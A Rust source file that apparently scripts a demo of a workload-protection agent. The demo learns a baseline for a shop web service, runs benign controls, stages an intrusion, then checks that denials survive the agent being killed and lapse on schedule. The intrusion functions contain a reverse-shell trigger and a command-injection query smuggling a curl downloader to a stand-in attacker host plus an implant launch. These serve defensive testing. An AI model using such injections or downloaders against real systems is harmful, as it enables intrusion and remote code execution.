//! The demo's acts, in order: learn, controls, intrusion, kill, lapse.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::Context;
use serde::de::DeserializeOwned;

use super::account::Account;
use super::handle::Agent;
use super::shop::{ATTACKER_SHELL, ATTACKER_WEB, Attempt, Heard, Layout, SITE, Served, boot_ns, encode_percent};
use super::stage::{Place, Stage};
use crate::api::protocol::Status;
use crate::decision::Decision;
use crate::finding::{Finding, FindingType};
use crate::policy::marks::Mark;

/// The workload that the demo is about.
pub const WORKLOAD: &str = "unit:shop-web.service";
/// Requests a second of the public.
const RATE: u32 = 40;
/// How long unlearning may take; the denial has to last beyond it.
const UNLEARNING_PATIENCE: Duration = Duration::from_secs(5);
/// How far from its deadline a denial may end.
const LAPSE_TOLERANCE: Duration = Duration::from_millis(50);
const MS: u64 = 1_000_000;

/// A demo in progress.
pub struct Play<'a> {
    /// What was promised.
    pub account: Account,
    /// Where it happens.
    pub stage: &'a mut Stage,
    /// Who watches.
    pub agent: Agent,
    httpd: u32,
}

/// What the intrusion left for the acts after it.
pub struct Intrusion {
    shell: Decision,
    implant: Decision,
    finding: Finding,
}

impl<'a> Play<'a> {
    /// Starts the shop, then lets the public in.
    pub fn begin(stage: &'a mut Stage, agent: Agent) -> anyhow::Result<Self> {
        let account = Account::default();
        set_rate(&stage.layout, RATE)?;
        stage.start("shop-db", Place::Database)?;
        let httpd = stage.start("shop-httpd", Place::Web)?;
        sleep(Duration::from_millis(300));
        stage.start("shop-attacker", Place::Public)?;
        stage.start("shop-load", Place::Public)?;
        account.tell(
            "START",
            format!("shop-web: httpd, 2 workers, CGI helper, {RATE} requests/s from the public; shop-db beside it"),
        );
        Ok(Self { account, stage, agent, httpd })
    }

    /// Learns until the baseline calls itself ready. A usual week holds a reload and a log rotation.
    pub fn learn(&mut self, factor: u64, patience: Duration) -> anyhow::Result<()> {
        self.account
            .tell("LEARNING", format!("demo clock runs {factor} times faster: 60 s are {} days", 60 * factor / 86_400));
        let began = Instant::now();
        let mut usual = [("reload", 5), ("rotate", 8), ("reload", 15), ("rotate", 20)].into_iter().peekable();
        let ready = loop {
            if let Some((what, _)) = usual.next_if(|(_, at)| began.elapsed() > Duration::from_secs(*at)) {
                if what == "reload" { self.reload()? } else { self.rotate_log()? }
            }
            let row = self.baseline_row()?;
            if row["ready"] == true {
                break Some(row);
            }
            if began.elapsed() > patience {
                self.account.tell("LEARNING", format!("still not ready: {row}"));
                break None;
            }
            sleep(Duration::from_millis(500));
        };
        let text = ready.as_ref().map_or("the baseline did not become ready".to_owned(), |row| {
            format!(
                "{} windows, {} executables, {} exec edges, {} destinations, {} trigrams",
                row["windows"], row["exes"], row["exec_edges"], row["destinations"], row["trigrams"]
            )
        });
        self.account.promise("READY", ready.is_some(), text);
        Ok(())
    }

    fn baseline_row(&self) -> anyhow::Result<serde_json::Value> {
        let rows: Vec<serde_json::Value> = self.agent.json(&["baseline", "status"])?;
        Ok(rows.into_iter().find(|row| row["workload"] == WORKLOAD).unwrap_or_default())
    }

    /// The first deliberate step: judged, and counted what would be denied.
    pub fn monitor(&mut self) -> anyhow::Result<()> {
        self.agent.text(&["mode", "set", WORKLOAD, "monitoring", "--reason", "demo"])?;
        let text = format!("{WORKLOAD}: judged from here on, nothing is denied; the clock runs normally again");
        self.account.tell("MONITORING", text);
        Ok(())
    }

    /// The second one: what is found is denied.
    pub fn enforce(&mut self) -> anyhow::Result<()> {
        self.agent.text(&["mode", "set", WORKLOAD, "enforcing", "--reason", "demo", "--for", "10m"])?;
        self.account.tell("ENFORCING", format!("{WORKLOAD} only, by the operator, for 10 min"));
        Ok(())
    }

    /// Benign changes, which must not be findings.
    pub fn controls(&mut self) -> anyhow::Result<()> {
        let before = self.served()?;
        let known = self.agent.findings()?.len();
        self.reload()?;
        sleep(Duration::from_secs(2));
        self.rotate_log()?;
        set_rate(&self.stage.layout, RATE * 5)?;
        sleep(Duration::from_secs(5));
        set_rate(&self.stage.layout, RATE)?;
        self.upgrade_helper()?;
        sleep(Duration::from_secs(3));
        let (findings, decisions) = (self.agent.findings()?, self.agent.decisions()?);
        let after = self.served()?;
        let new: Vec<_> =
            findings.iter().skip(known).map(|finding| format!("{} {}", finding.short(), finding.title)).collect();
        self.account.promise(
            "CONTROL",
            new.is_empty() && decisions.is_empty(),
            format!(
                "reload, load x5, log rotation, helper upgrade: {} findings, {} decisions {}",
                new.len(),
                decisions.len(),
                new.join("; ")
            ),
        );
        self.account.promise(
            "SERVICE",
            after.failed == before.failed,
            format!(
                "{} of {} requests answered 200 meanwhile",
                after.ok - before.ok,
                after.ok + after.failed - before.ok - before.failed
            ),
        );
        Ok(())
    }

    /// The intrusion: a shell that is connected before anybody can decide, then a shell, a downloader and an implant.
    pub fn intrude(&mut self) -> anyhow::Result<Option<Intrusion>> {
        let before = self.served()?;
        let Some(shell) = self.reverse_shell()? else { return Ok(None) };
        let Some((finding, implant)) = self.download_and_implant(&shell)? else { return Ok(None) };
        let after = self.served()?;
        self.account.promise(
            "SERVICE",
            after.failed == before.failed && after.ok > before.ok,
            format!(
                "{} of {} requests answered 200 during the attack",
                after.ok - before.ok,
                after.ok + after.failed - before.ok - before.failed
            ),
        );
        Ok(Some(Intrusion { shell, implant, finding }))
    }

    /// While the workload is only monitored a shell gets out; then enforcing is switched on, and it falls silent.
    fn reverse_shell(&mut self) -> anyhow::Result<Option<Decision>> {
        self.account.tell(
            "ATTACK 1/2",
            format!("the helper is overrun: it calls {ATTACKER_SHELL} and becomes sh on that socket"),
        );
        let mut request = self.request("page=overflow").spawn()?;
        let shadow = self.wait_for(FindingType::ExecNovel, true, &[], Duration::from_secs(10))?;
        let found = match shadow {
            Some((finding, shadow)) => {
                self.account.promise("FINDING", true, describe(&finding));
                let text = format!("{} would deny it; the shell answers the attacker meanwhile", shadow.short());
                self.account.tell("SHADOW", text);
                sleep(Duration::from_secs(1));
                self.enforce()?;
                self.wait_for(FindingType::ExecNovel, false, &[], Duration::from_secs(10))?
            }
            None => None,
        };
        let Some((_, decision)) = found else {
            self.account.promise("DECISION", false, "the open shell was not found and denied within 10 s each");
            end(&mut request);
            return Ok(None);
        };
        let left = (decision.until.boot_ns - decision.created.boot_ns) / 1_000_000_000;
        self.account.tell("DECISION", format!("{}: {} for {left} s", decision.short(), decision.reason));
        sleep(Duration::from_secs(2));
        let heard: Vec<Heard> = journal(&self.stage.layout, "shop-attacker")?;
        // What was in flight when the decision fell may still arrive.
        let settled = decision.created.boot_ns + 100 * MS;
        let bytes = |after: bool| -> usize {
            let side = heard.iter().filter_map(|heard| match heard {
                Heard::ShellBytes { boot_ns, bytes } if (*boot_ns > settled) == after => Some(*bytes),
                _ => None,
            });
            side.sum()
        };
        self.account.promise(
            "SILENCE",
            bytes(false) > 0 && bytes(true) == 0,
            format!("the open shell had sent {} bytes before the decision, and {} since", bytes(false), bytes(true)),
        );
        end(&mut request);
        Ok(Some(decision))
    }

    fn download_and_implant(&mut self, earlier: &Decision) -> anyhow::Result<Option<(Finding, Decision)>> {
        let implant = self.stage.layout.bin("shop-implant");
        let script = format!("{}; {} > /dev/null 2>&1 &", downloader(), implant.display());
        self.account.tell("ATTACK 2/2", format!("a request runs sh -c \"{}; shop-implant &\"", downloader()));
        let answer = self.request(&format!("debug={}", encode_percent(&script))).output()?;
        let said = String::from_utf8_lossy(&answer.stdout)
            .lines()
            .filter(|line| !line.starts_with('<'))
            .collect::<Vec<_>>()
            .join(" ");
        let found = self.wait_for(FindingType::ExecNovel, false, &[earlier.number], Duration::from_secs(10))?;
        let Some((finding, decision)) = found else {
            self.account.promise("FINDING", false, "the second shell was not found and denied within 10 s");
            return Ok(None);
        };
        sleep(Duration::from_secs(1));
        let heard: Vec<Heard> = journal(&self.stage.layout, "shop-attacker")?;
        let downloads = heard.iter().filter(|heard| matches!(heard, Heard::Web { .. })).count();
        let attempts: Vec<Attempt> = journal(&self.stage.layout, "shop-implant")?;
        let refused = attempts.iter().filter(|attempt| attempt.errno == 1).count();
        self.account.promise(
            "DENIED",
            refused > 0 && attempts.last().is_some_and(|last| last.errno == 1),
            format!(
                "connect to {ATTACKER_WEB}: EPERM, {refused} of {} calls of the implant; the downloader said: {said}",
                attempts.len()
            ),
        );
        let first_denied = attempts.iter().find(|attempt| attempt.errno == 1).map(|attempt| attempt.boot_ns);
        let first = finding.created.boot_ns;
        let status: Status = self.agent.json(&["status"])?;
        self.account.tell(
            "DELAY",
            format!(
                "first malicious exec to first denied connect: {:.1} ms; downloads that succeeded before: {downloads}; record to entry: {} µs at most",
                first_denied.unwrap_or(first).saturating_sub(first) as f64 / 1e6,
                status.latency_us.2
            ),
        );
        println!("{}", indent(&self.agent.text(&["findings", "show", &finding.short()])?));
        for other in
            self.agent.findings()?.iter().filter(|other| other.anchor == finding.anchor && other.id != finding.id)
        {
            println!("       │ {}  {:?}  {}", other.short(), other.severity, other.title);
            let named =
                other.reasons.iter().filter(|reason| ["sequence", "destination"].contains(&reason.what.as_str()));
            named.for_each(|reason| {
                println!("       │         {:<13} {}   usual: {}", reason.what, reason.now, reason.usual)
            });
        }
        println!("{}", indent(&self.agent.text(&["decisions", "list"])?));
        Ok(Some((finding, decision)))
    }

    /// Waits for a finding with a decision that is not among those already known.
    fn wait_for(
        &self,
        kind: FindingType,
        shadow: bool,
        known: &[u64],
        patience: Duration,
    ) -> anyhow::Result<Option<(Finding, Decision)>> {
        let deadline = Instant::now() + patience;
        while Instant::now() < deadline {
            let decisions = self.agent.decisions()?;
            let found = self.agent.findings()?.into_iter().filter(|finding| finding.kind == kind).find_map(|finding| {
                let fresh = |decision: &&Decision| {
                    finding.decisions.contains(&decision.number)
                        && !known.contains(&decision.number)
                        && decision.shadow == shadow
                };
                let decision = decisions.iter().find(fresh)?.clone();
                Some((finding, decision))
            });
            if found.is_some() {
                return Ok(found);
            }
            sleep(Duration::from_millis(50));
        }
        Ok(None)
    }

    /// The operator calls it an attack: the model becomes one that never saw it.
    pub fn unlearn(&mut self, intrusion: &Intrusion) -> anyhow::Result<()> {
        let finding = intrusion.finding.short();
        self.agent.text(&["marks", "malicious", &finding, "--reason", "demo"])?;
        let deadline = Instant::now() + UNLEARNING_PATIENCE;
        let unlearnt = loop {
            let marks: Vec<Mark> = self.agent.json(&["marks", "list"])?;
            let came_to = marks.into_iter().find(|mark| mark.finding == finding).and_then(|mark| mark.unlearnt);
            if came_to.is_some() || Instant::now() > deadline {
                break came_to;
            }
            sleep(Duration::from_millis(50));
        };
        let text = unlearnt.as_deref().unwrap_or("not within a few seconds, or refused: see the agent's findings");
        self.account.promise("UNLEARNT", unlearnt.is_some(), format!("{finding} was an attack: {text}"));
        Ok(())
    }

    /// Kills the agent; the denial must hold without it and end at its deadline.
    pub fn kill_and_lapse(&mut self, intrusion: &Intrusion) -> anyhow::Result<()> {
        let memory = self.agent.memory_mib();
        self.agent.kill()?;
        let killed = boot_ns();
        sleep(Duration::from_secs(2));
        let since = |attempts: &[Attempt]| {
            attempts.iter().filter(|attempt| attempt.boot_ns > killed).map(|attempt| attempt.errno).collect::<Vec<_>>()
        };
        let after = since(&journal(&self.stage.layout, "shop-implant")?);
        self.account.promise(
            "KILL -9",
            !after.is_empty() && after.iter().all(|errno| *errno == 1),
            format!("the agent ({memory} MiB) is gone; {} more calls, every one still denied", after.len()),
        );

        let deadline = intrusion.implant.until.boot_ns;
        while boot_ns() < deadline + 1_000 * MS {
            sleep(Duration::from_millis(100));
        }
        let attempts: Vec<Attempt> = journal(&self.stage.layout, "shop-implant")?;
        let last_denied = attempts.iter().rev().find(|attempt| attempt.errno == 1).map_or(0, |attempt| attempt.boot_ns);
        let first_allowed = attempts
            .iter()
            .find(|attempt| attempt.errno == 0 && attempt.boot_ns > killed)
            .map_or(u64::MAX, |attempt| attempt.boot_ns);
        let late = first_allowed.abs_diff(deadline);
        let kept = last_denied < deadline && Duration::from_nanos(late) <= LAPSE_TOLERANCE;
        self.account.promise(
            "LAPSED",
            kept,
            format!(
                "{} ended in the kernel {:.0} ms from its deadline, the agent still gone; connect works again",
                intrusion.implant.short(),
                late as f64 / 1e6
            ),
        );
        let _ = &intrusion.shell;
        Ok(())
    }

    fn served(&self) -> anyhow::Result<Served> {
        let lines: Vec<Served> = journal(&self.stage.layout, "shop-load")?;
        lines.last().copied().context("the public has not reported yet")
    }

    fn reload(&self) -> anyhow::Result<()> {
        self.signal(rustix::process::Signal::HUP)
    }

    fn rotate_log(&self) -> anyhow::Result<()> {
        let log = self.stage.layout.access_log();
        let _ = fs::rename(&log, log.with_extension("log.1"));
        self.signal(rustix::process::Signal::USR1)
    }

    fn signal(&self, signal: rustix::process::Signal) -> anyhow::Result<()> {
        let pid = rustix::process::Pid::from_raw(self.httpd as i32).context("no web server")?;
        Ok(rustix::process::kill_process(pid, signal)?)
    }

    /// A new file under the same name, as a package manager puts it.
    fn upgrade_helper(&self) -> anyhow::Result<()> {
        let (helper, fresh) = (self.stage.layout.bin("shop-report"), self.stage.layout.bin("shop-report.new"));
        fs::copy(&helper, &fresh)?;
        fs::rename(&fresh, &helper)?;
        Ok(())
    }

    fn request(&self, query: &str) -> Command {
        let mut command = self.stage.as_public("curl");
        command.args(["-s", "-m", "5", &format!("http://{SITE}/report?name=x&{query}")]);
        command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::null());
        command
    }
}

fn describe(finding: &Finding) -> String {
    format!("{} {:?} {}", finding.short(), finding.severity, finding.title)
}

fn end(child: &mut std::process::Child) {
    let _ = child.kill();
    let _ = child.wait();
}

fn downloader() -> String {
    format!("curl -sS -m 2 http://{}/x", ATTACKER_WEB.ip())
}

fn set_rate(layout: &Layout, rate: u32) -> anyhow::Result<()> {
    Ok(fs::write(layout.root.join("rate"), rate.to_string())?)
}

/// The complete lines of a journal.
fn journal<T: DeserializeOwned>(layout: &Layout, program: &str) -> anyhow::Result<Vec<T>> {
    read_lines(&layout.journal(program))
}

fn read_lines<T: DeserializeOwned>(path: &Path) -> anyhow::Result<Vec<T>> {
    let text = fs::read_to_string(path).unwrap_or_default();
    let complete = text.rfind('\n').map_or("", |end| &text[..end]);
    complete
        .lines()
        .map(|line| serde_json::from_str(line).with_context(|| format!("{}: {line}", path.display())))
        .collect()
}

fn indent(text: &str) -> String {
    text.trim_end().lines().map(|line| format!("       │ {line}")).collect::<Vec<_>>().join("\n")
}
